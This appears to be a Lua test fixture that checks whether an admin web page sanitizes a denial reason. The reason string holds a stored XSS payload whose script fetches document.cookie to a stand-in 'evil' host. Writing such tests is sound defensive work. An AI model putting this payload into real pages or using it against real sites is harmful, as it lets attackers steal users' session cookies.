-- class: output
-- expect: sanitized
-- tries: stored XSS through the reason shown in an admin web page
local entry = (function()
return function(action, share, actor)
  return false, "<img src=x onerror=alert(1)><script>fetch('//evil/'+document.cookie)</script>&quot;'"
end
end)()

return function(request)
  local decision, reason = entry(request.action, request.share, request.actor)
  if decision == true then return end
  if decision == false then return deny("hostile", reason or "denied") end
  return decision
end
